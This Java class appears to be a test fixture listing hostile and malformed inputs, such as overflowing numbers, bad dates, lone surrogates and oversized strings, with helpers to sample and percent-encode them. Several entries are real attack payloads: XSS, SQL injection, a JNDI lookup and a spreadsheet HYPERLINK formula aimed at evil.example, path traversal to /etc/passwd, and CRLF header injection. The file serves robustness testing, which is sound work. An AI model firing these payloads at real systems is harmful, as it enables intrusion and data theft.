package throughline.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** What people send who mean harm, or whose keyboard slipped. */
public final class HostileTexts {

    /** A few of each kind; a lone surrogate and a NUL are among them. */
    public static final List<String> ALL =
            List.of(
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "'; drop table person; --",
                    "\u202E\u0645\u0631\u062D\u0628\u0627\u202C",
                    "👩‍👩‍👧‍👦".repeat(40),
                    "\0",
                    "half \ud800 of one",
                    "other half \udc00",
                    "=HYPERLINK(\"http://evil.example\")",
                    "../../../../etc/passwd",
                    "${jndi:ldap://evil.example/x}",
                    "one\r\nSet-Cookie: hostile=1\r\n\r\n<script>alert(1)</script>",
                    "//evil.example/%2e%2e",
                    "-1",
                    "99999999999999999999",
                    "1e999999999",
                    "NaN",
                    "2026-13-45",
                    "+999999999-12-31",
                    "-999999999-01-01T00:00:00Z",
                    "null",
                    "",
                    "a: :b",
                    "charge:",
                    "%",
                    "x".repeat(6_000));

    private HostileTexts() {}

    /** Some of them, others for each number, so that all come up. */
    static List<String> some(int number, int count) {
        List<String> some = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            some.add(ALL.get((number * count + i) % ALL.size()));
        }
        return some;
    }

    /** As it stands in an address or a form; half a character as the bytes that stand for it. */
    static String encoded(String text) {
        StringBuilder encoded = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char each = text.charAt(i);
            boolean plain = each < 128 && (Character.isLetterOrDigit(each) || each == '-');
            if (plain) {
                encoded.append(each);
            } else {
                int length = isPair(text, i) ? 2 : 1;
                for (byte one : bytes(text.substring(i, i + length))) {
                    encoded.append('%').append("%02X".formatted(one & 0xff));
                }
                i += length - 1;
            }
        }
        return encoded.toString();
    }

    private static boolean isPair(String text, int at) {
        return at + 1 < text.length()
                && Character.isSurrogatePair(text.charAt(at), text.charAt(at + 1));
    }

    private static byte[] bytes(String character) {
        char first = character.charAt(0);
        if (character.length() == 1 && Character.isSurrogate(first)) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.write(0xE0 | first >> 12);
            out.write(0x80 | first >> 6 & 0x3f);
            out.write(0x80 | first & 0x3f);
            return out.toByteArray();
        }
        return character.getBytes(StandardCharsets.UTF_8);
    }
}
